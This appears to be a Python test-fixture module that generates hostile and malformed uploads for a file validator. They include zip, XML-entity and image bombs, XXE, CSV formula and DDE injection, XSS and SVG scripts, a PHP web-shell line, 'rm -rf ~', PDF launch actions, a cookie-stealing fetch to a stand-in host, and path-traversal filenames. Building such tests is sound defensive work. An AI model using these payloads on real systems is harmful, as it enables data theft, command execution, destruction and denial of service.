"""Files that are not what they say, or that cost far more to read than to send; made here, none is stored."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

from PIL import Image

from tests.pieces import (
    FORMAT,
    OFFICE,
    TABLE,
    content_types,
    docx,
    docx_parts,
    paragraph,
    pdf,
    picture,
    relations,
    sheet,
    sound,
    xlsx,
    xlsx_parts,
    zipped,
)  # fmt: skip

Make = Callable[[], bytes]
MB = 1024 * 1024
BOMB = 220 * MB
SHEET = "xl/worksheets/sheet1.xml"
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
JAVASCRIPT = b"<script>fetch('https://ailleurs.example/?'+document.cookie)</script>"


def given(data: bytes) -> Make:
    return lambda: data


def in_sheet(part: str) -> Make:
    return lambda: xlsx(**{SHEET: part})


def in_text(part: str) -> Make:
    return lambda: docx(**{"word/document.xml": part})


# --- programs -------------------------------------------------------------------------------------------------------

PROGRAMS: dict[str, bytes] = {
    "windows": b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(200) + b"PE\0\0",
    "linux": b"\x7fELF\x02\x01\x01" + bytes(300),
    "macos 32": b"\xfe\xed\xfa\xce" + bytes(100),
    "macos 64": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(100),
    "macos fat": b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(100),
    "java class": b"\xca\xfe\xba\xbe\0\0\x004" + bytes(100),
    "wasm": b"\0asm\x01\0\0\0",
    "shell": b"#!/bin/sh\nrm -rf ~; echo a,b\necho c,d\n",
    "python": b"#!/usr/bin/env python3\nimport os\nprint(1, 2)\n",
}
OTHERS: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "vide"),
    "batch": (b"@echo off\r\ndel /q *.*\r\n", "pas un tableau"),
    "shortcut": (b"L\0\0\0\x01\x14\x02\0" + bytes(100), "nuls|aucun des types"),
    "old xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "ancien document Office"),
    "gif": (b"GIF89a/*" + HTML, "image GIF"),
    "webp": (b"RIFF\x10\0\0\0WEBPVP8 ", "WebP"),
    "bmp": (b"BM" + bytes(60), "BMP"),
    "tiff": (b"II*\0" + bytes(60), "TIFF"),
    "heic": (b"\0\0\0\x18ftypheic" + bytes(60), "HEIC"),
    "icon": (b"\0\0\x01\0\x01\0", "icône"),
    "rar": (b"Rar!\x1a\x07\x01\0", "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c", "archive"),
    "svgz": (b"\x1f\x8b\x08\0" + bytes(20), "archive"),
    "rtf": (b"{\\rtf1{\\object\\objocx}}", "RTF"),
    "postscript": (b"%!PS-Adobe\n(%pipe%id) (r) file", "PostScript"),
    "sqlite": (b"SQLite format 3\0" + bytes(100), "base de données"),
    "letter": ("Chère Ada,\nvoici les chiffres.\n".encode(), "pas un tableau|tableau"),
    "one cell": (b"a;b\n", "pas un tableau"),
    "noise": (random.Random(1).randbytes(5_000), "."),
    "nulls": (bytes(10_000), "nuls|aucun des types"),
    "control characters": (b"a;b\n\x1b[2J;\x07\n", "aucun des types"),
    "a table with nulls": (b"a;b\nc\0;d\n", "nuls|aucun des types"),
    "an open quote": (b'a;b\n"c;d\n' * 3, "guillemet"),
    "ten thousand columns": (b";".join([b"a"] * 10_000) + b"\n" + b";" * 9_999 + b"\n", "colonnes"),
    "one cell of a megabyte": (b"a;b\n" + b"x" * MB + b";1\n", "démesurée|dépasse"),
}

# --- what a browser would run ----------------------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
MARKUP: dict[str, bytes] = {
    "svg": SVG,
    "svg without script": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
    "svg after a prolog": b'<?xml version="1.0"?>\n<!DOCTYPE svg SYSTEM "file:///etc/passwd">\n' + SVG,
    "svg after a comment": b"<!-- a;b\nc;d -->\n" + SVG,
    "svg after a mark": b"\xef\xbb\xbf" + SVG,
    "svg in utf-16": SVG.decode().encode("utf-16"),
    "svg in utf-16 without a mark": SVG.decode().encode("utf-16-le"),
    "svg in capitals": SVG.upper(),
    "svg in a table": b"a;b\n" + SVG + b";1\n",
    "html": b"<!DOCTYPE html>" + HTML,
    "html in capitals": HTML.upper(),
    "html after blanks": b" \r\n\t\n" + HTML,
    "html in utf-16": HTML.decode().encode("utf-16-be"),
    "html in a table": b"a;b\nc;d\n" + HTML,
    "a script in a table": b"a;b\n" + JAVASCRIPT + b";1\n",
    "an image in a table": b"a;b\n<img src=x onerror=alert(1)>;1\n",
    "php": b"<?php system($_GET['c']); ?>;a\nb;c\n",
    "xml": b'<?xml version="1.0"?><a/>',
    "saved page": b"MIME-Version: 1.0; a\nContent-Type: text/html; b\n\n" + HTML,
}
FORMULAS: dict[str, bytes] = {
    "program": b"a;b\n=cmd|'/C calc'!A0;1\n",
    "program after a sum": b"a;b\n-2+3+cmd|'/C calc'!A0;1\n",
    "program after an at": b"a;b\n@SUM(1+1)*cmd|'/C calc'!A0;1\n",
    "link": b'a,b\n"=HYPERLINK(""https://ailleurs.example/?""&A1,""ici"")",1\n',
    "link after a plus": b'a,b\n"+HYPERLINK(""https://ailleurs.example"")",1\n',
    "after blanks": b"a;b\n \t=1+1;1\n",
    "in utf-16": "a;b\n=1+1;1\n".encode("utf-16"),
    "in the header": b"=1+1;b\n1;2\n",
}

# --- archives --------------------------------------------------------------------------------------------------------


def zeros(size: int) -> bytes:
    return bytes(size)


def forged(data: bytes, central: Callable[[bytearray, int], None], local: Callable[[bytearray, int], None]) -> bytes:
    """An archive whose last member's headers are rewritten: both functions get the bytes and where a header begins."""
    changed = bytearray(data)
    start = data.rindex(b"PK\x01\x02")
    central(changed, start)
    local(changed, struct.unpack_from("<I", data, start + 42)[0])
    return bytes(changed)


@cache
def bomb() -> bytes:
    """A workbook with one more part, of 220 MB, that comes last."""
    return zipped(xlsx_parts() | {"xl/media/a.png": zeros(BOMB)})


def lying(size: int) -> bytes:
    """A member of 300 MB that says it has `size` bytes."""
    return forged(
        bomb(),
        lambda changed, at: struct.pack_into("<I", changed, at + 24, size),
        lambda changed, at: struct.pack_into("<I", changed, at + 22, size),
    )


def overlapping(members: int) -> bytes:
    """One compressed body that many entries of the directory share."""
    data = zipped(xlsx_parts() | {"xl/media/a0.png": zeros(10 * MB)})
    start = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entry = data[start:end]
    entries = b"".join(entry.replace(b"a0.png", b"a%d.png" % number) for number in range(1, members)[:9])
    tail = bytearray(data[end:])
    count = struct.unpack_from("<H", tail, 10)[0] + min(members - 1, 9)
    length = struct.unpack_from("<I", tail, 12)[0] + len(entries)
    struct.pack_into("<HHI", tail, 8, count, count, length)
    return data[:end] + entries + bytes(tail)


def containing_itself() -> bytes:
    """Its last member begins at the archive's own first byte, so that whoever unpacks on finds the archive again."""
    data = zipped(xlsx_parts() | {"xl/embeddings/a.xlsx": b"x"})
    return forged(data, lambda changed, at: struct.pack_into("<I", changed, at + 42, 0), lambda changed, at: None)


def nested(depth: int) -> bytes:
    inner = xlsx()
    for _ in range(depth):
        inner = zipped(xlsx_parts() | {"xl/embeddings/a.xlsx": inner})
    return inner


def renamed(old: str, new: str) -> bytes:
    """A member under a name that zipfile would not write; both names are equally long."""
    assert len(old) == len(new)
    return zipped(xlsx_parts() | {old: b"x"}).replace(old.encode(), new.encode())


def twice(first: str, second: str) -> bytes:
    written = io.BytesIO(xlsx())
    with zipfile.ZipFile(written, "a") as archive:
        archive.writestr(first, b"1")
        archive.writestr(second, b"2")
    return written.getvalue()


def flagged(bits: int) -> bytes:
    return forged(
        xlsx(),
        lambda changed, at: struct.pack_into("<H", changed, at + 8, bits),
        lambda changed, at: struct.pack_into("<H", changed, at + 6, bits),
    )


BOMBS: dict[str, tuple[Make, str]] = {
    "flat": (bomb, "200 Mo une fois décompressé"),
    "flat xml": (lambda: xlsx(**{SHEET: sheet(" " * (201 * MB))}), "200 Mo|trop de temps"),
    "in docx": (lambda: docx(**{"word/media/a.png": zeros(BOMB)}), "200 Mo"),
    "in many parts": (
        lambda: zipped(xlsx_parts() | {f"xl/media/{n}.png": zeros(25 * MB) for n in range(9)}), "200 Mo|trop de temps",
    ),
    "too many parts": (
        lambda: zipped(xlsx_parts() | {f"xl/media/{n}.png": b"x" for n in range(200)}), "205 parties ; au plus 200",
    ),
    "sixty thousand parts": (lambda: zipped({str(n): b"" for n in range(60_000)}, zipfile.ZIP_STORED), "60000 parties"),
    "declared small": (lambda: lying(10), "abîmé|200 Mo"),
    "declared huge": (lambda: lying(0xFFFFFFF0), "abîmé|200 Mo"),
    "overlapping": (lambda: overlapping(10), "abîmé"),
    "containing itself": (containing_itself, "abîmé"),
    "nested": (lambda: nested(4), "incorporé"),
    "nested bomb": (
        lambda: xlsx(**{"xl/embeddings/a.xlsx": bomb()}), "200 Mo",
    ),
    "encrypted": (lambda: flagged(1), "mot de passe"),
    "bzip2": (lambda: zipped(xlsx_parts(), zipfile.ZIP_BZIP2), "abîmé"),
    "lzma": (lambda: zipped(xlsx_parts(), zipfile.ZIP_LZMA), "abîmé"),
    "followed by a page": (lambda: xlsx() + HTML, "suivi d’autre chose|abîmé"),
    "preceded by a script": (lambda: b"#!/bin/sh\n" + xlsx(), "programme"),
    "name that climbs": (lambda: renamed("xl/aaaaaaaa/x", "../../../etc/x"[:13]), "noms interdits"),
    "absolute name": (lambda: renamed("xl/aaa/x", "/etc/a/x"), "noms interdits"),
    "backslashes": (lambda: renamed("xl/aaa/x", "..\\..\\xx"), "noms interdits|abîmé"),
    "a colon": (lambda: renamed("xl/aaa/x", "C:/aaa/x"), "noms interdits"),
    "a line end in a name": (lambda: renamed("xl/aaa/x", "xl/a\na/x"), "noms interdits"),
    "twice the same name": (lambda: twice("xl/a.xml", "XL/A.XML"), "répétés"),
    "two names for one": (lambda: xlsx().replace(b"xl/workbook.xml", b"xl/workbooq.xml", 1), "abîmé"),
    "directory cut": (lambda: xlsx()[:-30], "abîmé"),
    "checksum": (
        lambda: forged(xlsx(), lambda data, at: struct.pack_into("<I", data, at + 16, 7), lambda data, at: None),
        "abîmé",
    ),
    "only a signature": (lambda: b"PK\x03\x04", "abîmé"),
    "archive": (lambda: zipped({"a.txt": b"x"}), "archive zip"),
    "empty archive": (lambda: zipped({}), "archive"),
    "java": (lambda: zipped({"META-INF/MANIFEST.MF": b"x"}), "Java"),
    "opendocument": (lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}), "OpenDocument"),
    "presentation": (lambda: zipped(xlsx_parts() | {"ppt/presentation.xml": b"<a/>"}), "présentation"),
    "binary workbook": (lambda: zipped(xlsx_parts() | {"xl/workbook.bin": b"x"}), "xlsb"),
}  # fmt: skip

# --- documents of Office ---------------------------------------------------------------------------------------------

LOL = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "bomb": f'<!DOCTYPE a [<!ENTITY a0 "ha">{LOL}]><a>&a9;</a>',
    "quadratic": f'<!DOCTYPE a [<!ENTITY a "{"x" * 50_000}">]><a>{"&a;" * 20_000}</a>',
    "external": '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>',
    "remote": '<!DOCTYPE a [<!ENTITY % a SYSTEM "http://127.0.0.1:1/x.dtd"> %a;]><a/>',
    "doctype alone": "<!DOCTYPE a><a/>",
}
CLAIMS = {
    "dimension": sheet(dimension="A1:XFD1048576"),
    "last cell": sheet('<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>'),
    "a cell outside its row": sheet('<row r="1"><c r="ZZ1041"/></row><row r="8576"><c r="ZZ1048576"/></row>'),
    "row beyond": sheet('<row r="4294967295"><c/></row>'),
    "row of letters": sheet('<row r="Z"><c/></row>'),
    "column beyond": sheet('<row r="1"><c r="ZZZ1"/></row>'),
    "four letters": sheet('<row r="1"><c r="AAAA1"/></row>'),
    "long number": sheet(f'<row r="1"><c r="A{"9" * 500}"/></row>'),
    "with prefixes": '<x:worksheet xmlns:x="a"><x:dimension ref="A1:XFD1048576"/></x:worksheet>',
    "merged": sheet('</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'),
}


def with_types(parts: Mapping[str, str | bytes], **kinds: str) -> bytes:
    """An xlsx whose content types name more parts, or others."""
    declared = {"xl/workbook.xml": f"{FORMAT}spreadsheetml.sheet.main+xml"} | kinds
    return zipped(xlsx_parts() | {"[Content_Types].xml": content_types(declared)} | parts)


def tied(kind: str, target: str, mode: str = "External") -> bytes:
    return docx(**{"word/_rels/document.xml.rels": relations((kind, target, mode))})


def fields(*runs: str) -> bytes:
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return docx(**{"word/document.xml": paragraph(said)})


MACRO = "macros"
OFFICES: dict[str, tuple[Make, str]] = {
    **{f"claim: {name}": (in_sheet(part), "prétend|adresse") for name, part in CLAIMS.items()},
    **{f"entities in a sheet: {name}": (in_sheet(part), "entités") for name, part in ENTITIES.items()},
    **{f"entities in a text: {name}": (in_text(part), "entités") for name, part in ENTITIES.items()},
    "entities in relationships": (lambda: docx(**{"_rels/.rels": ENTITIES["external"]}), "entités"),
    "entities in content types": (lambda: docx(**{"[Content_Types].xml": ENTITIES["bomb"]}), "entités"),
    "entities in utf-16": (lambda: xlsx(**{SHEET: ENTITIES["bomb"].encode("utf-16")}), "entités"),
    "doctype in a drawing": (lambda: xlsx(**{"xl/drawings/a.vml": "<!DOCTYPE a><a>"}), "entités"),
    "claim under another name": (
        lambda: with_types(
            {"xl/x.xml": CLAIMS["dimension"]}, **{"xl/x.xml": f"{FORMAT}spreadsheetml.worksheet+xml"}
        ), "prétend",
    ),
    "not well-formed": (lambda: xlsx(**{SHEET: "<a><b></a>"}), "abîmé"),
    "cut xml": (lambda: xlsx(**{SHEET: sheet()[:-20]}), "abîmé"),
    "macros": (lambda: xlsx(**{"xl/vbaProject.bin": b"x"}), MACRO),
    "macros in a text": (lambda: docx(**{"word/vbaProject.bin": b"x", "word/vbaData.xml": "<a/>"}), MACRO),
    "macros elsewhere": (
        lambda: with_types({"xl/a.bin": b"x"}, **{"xl/a.bin": "application/vnd.ms-office.vbaProject"}), MACRO,
    ),
    "xlsm": (
        lambda: with_types({}, **{"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}), MACRO,
    ),
    "old macros": (lambda: xlsx(**{"xl/macrosheets/sheet1.xml": sheet()}), MACRO),
    "activex": (lambda: xlsx(**{"xl/activeX/activeX1.xml": "<a/>"}), MACRO),
    "template": (
        lambda: with_types({}, **{"xl/workbook.xml": f"{FORMAT}spreadsheetml.template.main+xml"}), "autre sorte",
    ),
    "no main part": (lambda: xlsx(**{"_rels/.rels": relations()}), "abîmé"),
    "two main parts": (
        lambda: xlsx(**{"_rels/.rels": relations(*[("officeDocument", "xl/workbook.xml", "")] * 2)}), "abîmé",
    ),
    "main part missing": (lambda: xlsx(**{"_rels/.rels": relations(("officeDocument", "xl/a.xml", ""))}), "abîmé"),
    "embedded program": (lambda: docx(**{"word/embeddings/oleObject1.bin": b"MZ"}), "incorporé"),
    "embedded macros": (lambda: docx(**{"word/embeddings/a.xlsx": xlsx(**{"xl/vbaProject.bin": b"x"})}), MACRO),
    "embedded object": (lambda: tied("oleObject", "media/a", ""), "incorporé"),
    "embedded page": (lambda: tied("aFChunk", "a.html", ""), "incorporé"),
    "remote template": (lambda: tied("attachedTemplate", "https://ailleurs.example/a.dotm"), "liens"),
    "template on a share": (lambda: tied("attachedTemplate", "file://ailleurs/a.dotm"), "liens"),
    "template on a share, by backslashes": (lambda: tied("attachedTemplate", "\\\\ailleurs\\a.dotm"), "liens"),
    "remote picture": (lambda: tied("image", "https://ailleurs.example/pixel.png"), "liens"),
    "remote object": (lambda: tied("oleObject", "https://ailleurs.example/a"), "liens"),
    "link to another workbook": (lambda: xlsx(**{"xl/externalLinks/externalLink1.xml": "<a/>"}), "liens"),
    "connection": (lambda: xlsx(**{"xl/connections.xml": "<a/>"}), "liens"),
    "field that runs": (lambda: fields("DDEAUTO c:\\windows\\cmd.exe /k calc"), "liens"),
    "field in pieces": (lambda: fields("DD", "EAU", "TO cmd"), "liens"),
    "climbing relationship": (lambda: tied("image", "../../../etc/passwd", ""), "abîmé"),
}  # fmt: skip

# --- PDF -------------------------------------------------------------------------------------------------------------


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Objects from 1, the first being the catalogue, with a right cross-reference table."""
    written, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(written))
    return written + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table) + end


def stream(content: bytes, words: bytes = b"") -> bytes:
    packed = zlib.compress(content, 1)
    return b"<</Length %d /Filter /FlateDecode %s>>\nstream\n%s\nendstream" % (len(packed), words, packed)


CATALOGUE = b"<</Type /Catalog /Pages 2 0 R>>"
TREE = b"<</Type /Pages /Kids [3 0 R] /Count 1>>"


def page(box: bytes = b"0 0 600 800", words: bytes = b"/Contents 4 0 R") -> bytes:
    return b"<</Type /Page /Parent 2 0 R /MediaBox [%s] /Resources <</XObject <</X 5 0 R>>>> %s>>" % (box, words)


def boxed(box: bytes) -> bytes:
    return raw_pdf(CATALOGUE, TREE, page(box), stream(b"0 0 100 100 re f"))


def acting(action: bytes) -> bytes:
    return raw_pdf(
        b"<</Type /Catalog /Pages 2 0 R /OpenAction <<%s>>>>" % action, TREE, page(), stream(b"0 0 9 9 re f")
    )


def drawing(content: bytes, what: bytes) -> bytes:
    return raw_pdf(CATALOGUE, TREE, page(), stream(content), what)


FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources <</XObject <</X 5 0 R>>>>"
LOCK = b"/ID [<00><00>] /Encrypt <</Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s>>>" % (b"00" * 32, b"00" * 32)
PDF_REFUSED: dict[str, tuple[Make, str]] = {
    "locked": (lambda: raw_pdf(CATALOGUE, TREE, page(), stream(b""), trailer=LOCK), "protégé"),
    "500 pages": (lambda: pdf(500), "500 pages ; au plus 300"),
    "no page": (lambda: raw_pdf(CATALOGUE, b"<</Type /Pages /Kids [] /Count 0>>"), "aucune page|abîmé"),
    "cut": (lambda: pdf(20)[: len(pdf(20)) // 2], "incomplet"),
    "header alone": (lambda: b"%PDF-1.7\n%%EOF", "abîmé"),
    "a page before": (lambda: HTML + pdf(), "page web"),
    "text before": (lambda: b"  \n" + pdf(), "commence par autre chose"),
    "an archive after": (lambda: pdf() + zipped({"a": random.Random(2).randbytes(3_000)}), "suivi d’autre chose"),
    "a page after": (lambda: pdf() + HTML * 100, "suivi d’autre chose"),
    "catalogue missing": (lambda: raw_pdf(b"<</Type /Nothing>>"), "abîmé|aucune page"),
}  # fmt: skip
PDF_EITHER: dict[str, Make] = {
    "a billion pages claimed": lambda: raw_pdf(
        CATALOGUE, b"<</Type /Pages /Kids [3 0 R] /Count 1000000000>>", page(), stream(b"")
    ),
    "cross-references cut": lambda: pdf(5).replace(b"startxref", b"startxxxx"),
    "cross-references that loop": lambda: raw_pdf(CATALOGUE, TREE, page(), stream(b""), trailer=b"/Prev 9"),
    "page of a billion points": lambda: boxed(b"0 0 1000000000 1000000000"),
    "page without width": lambda: boxed(b"0 0 0 800"),
    "page as a thread": lambda: boxed(b"0 0 1 100000"),
    "page as a line": lambda: boxed(b"0 0 100000 1"),
    "page backwards": lambda: boxed(b"600 800 0 0"),
    "page of nonsense": lambda: boxed(b"0 0 (a) /b"),
    "page of overflowing numbers": lambda: boxed(b"-1e38 -1e38 1e38 1e38"),
    "tree that holds itself": lambda: raw_pdf(CATALOGUE, b"<</Type /Pages /Kids [2 0 R] /Count 5>>"),
    "ten thousand brackets": lambda: raw_pdf(
        CATALOGUE, TREE, page(), stream(b"[" * 100_000), b"[" * 10_000 + b"]" * 10_000
    ),
    "dictionaries in dictionaries": lambda: raw_pdf(b"<</A " * 20_000 + CATALOGUE + b">>" * 20_000, TREE, page()),
    "drawing that draws itself": lambda: drawing(b"/X Do", stream(b"/X Do /X Do /X Do", FORM)),
    "content of 220 MB": lambda: raw_pdf(CATALOGUE, TREE, page(), stream(zeros(BOMB))),
    "filter upon filter": lambda: raw_pdf(
        CATALOGUE, TREE, page(),
        stream(zlib.compress(zeros(BOMB), 1)).replace(b"/FlateDecode", b"[/FlateDecode /FlateDecode]"),
    ),
    "picture of 100,000 by 100,000": lambda: drawing(
        b"600 0 0 800 0 0 cm /X Do",
        stream(
            zeros(MB),
            b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
        ),
    ),
    "a million strokes": lambda: raw_pdf(CATALOGUE, TREE, page(), stream(b"0 0 m 600 800 l S\n" * 1_000_000)),
    "a pattern of small tiles": lambda: raw_pdf(
        CATALOGUE, TREE, page(), stream(b"q 0.001 w 0 0 600 800 re W n\n" * 200_000)
    ),
}  # fmt: skip
PDF_HARMLESS: dict[str, Make] = {
    "script": lambda: acting(b"/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://ailleurs.example'\\))"),
    "program": lambda: acting(b"/S /Launch /F (cmd.exe)"),
    "address": lambda: acting(b"/S /URI /URI (https://ailleurs.example)"),
    "a short page after": lambda: pdf() + HTML,
}

# --- images ----------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def raw_png(across: int, down: int, body: bytes, *more: bytes, depth: int = 1, colour: int = 0) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", across, down, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def rows(across: int, down: int) -> bytes:
    """The compressed pixels of a black picture, one bit each."""
    return zlib.compress(bytes((across + 7) // 8 + 1) * down, 9)


def sized_jpeg(across: int, down: int) -> bytes:
    data = picture("JPEG")
    place = data.index(b"\xff\xc0") + 5
    return data[:place] + struct.pack(">HH", down, across) + data[place + 4 :]


def scans() -> bytes:
    """A progressive JPEG whose last scan is told two thousand times."""
    written = io.BytesIO()
    Image.effect_noise((1500, 1500), 50).save(written, "JPEG", progressive=True, quality=20)
    data = written.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 60 + b"\xff\xd9"


IMAGES_REFUSED: dict[str, tuple[Make, str]] = {
    "png of 100,000 by 100,000": (lambda: raw_png(100_000, 100_000, rows(8, 8)), "100000 × 100000 pixels"),
    "png of 900 million pixels": (lambda: raw_png(30_000, 30_000, rows(30_000, 30_000)), "au plus 50 millions"),
    "png of four billion": (lambda: raw_png(0x7FFFFFFF, 1, rows(8, 1)), "au plus 50 millions"),
    "png without pixels": (lambda: raw_png(0, 0, b""), "abîmé"),
    "png with too few pixels": (lambda: raw_png(5_000, 5_000, rows(50, 50)), "abîmé"),
    "png with a wrong checksum": (lambda: picture().replace(b"IHDR\0\0\0", b"IHDR\0\0\1"), "abîmé|pixels"),
    "png cut": (lambda: picture(size=(900, 900))[:-300], "abîmé"),
    "png of nothing": (lambda: b"\x89PNG\r\n\x1a\n", "abîmé"),
    "png with endless words": (
        lambda: raw_png(8, 8, rows(8, 8), *[chunk(b"zTXt", b"a\0\0" + zlib.compress(zeros(2 * MB)))] * 200), "abîmé",
    ),
    "jpeg of 65,500 by 65,500": (lambda: sized_jpeg(65_500, 65_500), "au plus 50 millions"),
    "jpeg of nothing": (lambda: b"\xff\xd8\xff\xe0", "abîmé"),
    "jpeg cut": (lambda: picture("JPEG", (900, 900))[:-900], "abîmé"),
    "jpeg and page": (lambda: b"\xff\xd8\xff" + HTML, "abîmé"),
}  # fmt: skip
IMAGES_EITHER: dict[str, Make] = {
    "png of 49 million pixels": lambda: raw_png(7_000, 7_000, rows(7_000, 7_000)),
    "jpeg of 50 million pixels, one colour": lambda: picture("JPEG", (7_000, 7_100)),
    "jpeg of many scans": scans,
    "jpeg larger than its pixels": lambda: sized_jpeg(5_000, 5_000),
    "png whose colours are a bomb": lambda: raw_png(
        8, 8, rows(8, 8), chunk(b"iCCP", b"a\0\0" + zlib.compress(zeros(BOMB), 1))
    ),
    "png with a chunk that never ends": lambda: picture().replace(b"IDAT", b"IDAT", 1) + struct.pack(">I", 0xFFFFFFFF),
    "jpeg with a million marks": lambda: picture("JPEG")[:2] + b"\xff\xfe\0\x02" * 1_000_000 + picture("JPEG")[2:],
}  # fmt: skip
IMAGES_HARMLESS: dict[str, Make] = {
    "png and page": lambda: picture() + HTML,
    "png and archive": lambda: picture() + zipped({"a": b"x"}),
    "png with a page in its words": lambda: raw_png(8, 8, rows(8, 8), chunk(b"tEXt", b"a\0" + HTML)),
    "jpeg with a page in its words": lambda: picture("JPEG", comment=HTML),
    "jpeg with damaged labels": lambda: picture("JPEG", exif=b"Exif\0\0MM\0*\xff\xff\xff\xff"),
    "moving png": lambda: picture(save_all=True, append_images=[Image.new("RGB", (60, 40))] * 20),
}
OTHERS_HARMLESS: dict[str, Make] = {
    "numbers with signs": lambda: b"a;b\n-4,5;+33 6 12\n- un point;@ada\n-10 (provisoire);-\n",
    "own template and a link": lambda: docx(
        **{
            "word/_rels/document.xml.rels": relations(
                ("hyperlink", "https://example.org", "External"),
                ("attachedTemplate", "file:///C:\\Users\\Ada\\Charte.dotx", "External"),
            )
        }
    ),
    "a chart and its table": lambda: docx(**{"word/embeddings/Microsoft_Excel.xlsx": xlsx()}),
    "an archive as a picture": lambda: xlsx(**{"xl/media/a.png": zipped({"a": b"x"})}),
    "deep xml": lambda: xlsx(**{SHEET: "<a>" * 50_000 + "</a>" * 50_000}),
}
OTHERS_EITHER: dict[str, Make] = {
    "twenty megabytes of lines": lambda: b"a;b\n" * (20 * MB // 4),
    "twenty megabytes of separators": lambda: b"a;b\n" + (b";" * 199 + b"\n") * (20 * MB // 200 - 1),
    "twenty megabytes of quotes": lambda: b"a;b\n" + b'"' * (20 * MB - 10),
    "twenty megabytes of one line": lambda: b"x;" * (10 * MB),
    "a hundred thousand attributes": lambda: xlsx(
        **{SHEET: "<a " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"}
    ),
    "xml in another encoding than it says": lambda: xlsx(**{SHEET: '<?xml version="1.0" encoding="utf-7"?><a/>'}),
    "a relationship of another kind": lambda: xlsx(**{"_rels/.rels": relations().replace(OFFICE, "x")}),
}


def garbled() -> dict[str, bytes]:
    """Sound files cut short, or with some bytes replaced; the same ones at every run."""
    made: dict[str, bytes] = {}
    for kind, content in sound().items():
        chance = random.Random(kind)
        for share in (10, 50, 95):
            made[f"{kind} cut at {share} %"] = content[: max(len(content) * share // 100, 1)]
        for turn in range(4):
            bytes_ = bytearray(content)
            for _ in range(4**turn):
                bytes_[chance.randrange(len(bytes_))] = chance.randrange(256)
            made[f"{kind} garbled {turn}"] = bytes(bytes_)
        made[f"{kind} and noise"] = content[:8] + chance.randbytes(3_000)
    return made


NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\a.dll",
    "/etc/shadow",
    "C:\\a.csv",
    "a\0.csv",
    "a\r\nSet-Cookie: x.csv",
    "étude\u202evsc.exe",
    "\u2066a\u2069.csv",
    "x" * 300,
    "é" * 300 + ".csv",
    "CON",
    "NUL.csv",
    "aux.tar.gz",
    "",
    ".",
    "..",
    "....csv",
    "a/b/",
    "<script>alert(1)</script>.csv",
    '"; filename="a.exe',
    "%2e%2e%2fa.csv",
    "\ud800.csv",
    "\u200b\ufeff.csv",
    "a" * 119 + "\u0301.csv",
    "-rf.csv",
    "~/.ssh/id",
    "a.csv:flux",
    "https://ailleurs.example/a.csv",
]


def refused() -> dict[str, tuple[Make, str]]:
    """Each with the words that its refusal must say."""
    return {
        **{f"program: {name}": (given(data), "programme") for name, data in PROGRAMS.items()},
        **{f"other: {name}": (given(data), words) for name, (data, words) in OTHERS.items()},
        **{f"markup: {name}": (given(data), "SVG|page web") for name, data in MARKUP.items()},
        **{f"formula: {name}": (given(data), "formule") for name, data in FORMULAS.items()},
        **{f"archive: {name}": made for name, made in BOMBS.items()},
        **{f"office: {name}": made for name, made in OFFICES.items()},
        **{f"pdf: {name}": made for name, made in PDF_REFUSED.items()},
        **{f"image: {name}": made for name, made in IMAGES_REFUSED.items()},
    }  # fmt: skip


def harmless() -> dict[str, Make]:
    """Let in, because nothing of theirs can run where they are shown."""
    return {
        **{f"pdf: {name}": made for name, made in PDF_HARMLESS.items()},
        **{f"image: {name}": made for name, made in IMAGES_HARMLESS.items()},
        **{f"other: {name}": made for name, made in OTHERS_HARMLESS.items()},
    }


def either() -> dict[str, Make]:
    """Refused or harmless, as their reader sees fit; what matters is that it comes to an end."""
    return {
        **{f"pdf: {name}": made for name, made in PDF_EITHER.items()},
        **{f"image: {name}": made for name, made in IMAGES_EITHER.items()},
        **{f"other: {name}": made for name, made in OTHERS_EITHER.items()},
        **{f"garbled: {name}": given(data) for name, data in garbled().items()},
    }


__all__ = ["NAMES", "TABLE", "docx_parts", "either", "harmless", "refused"]
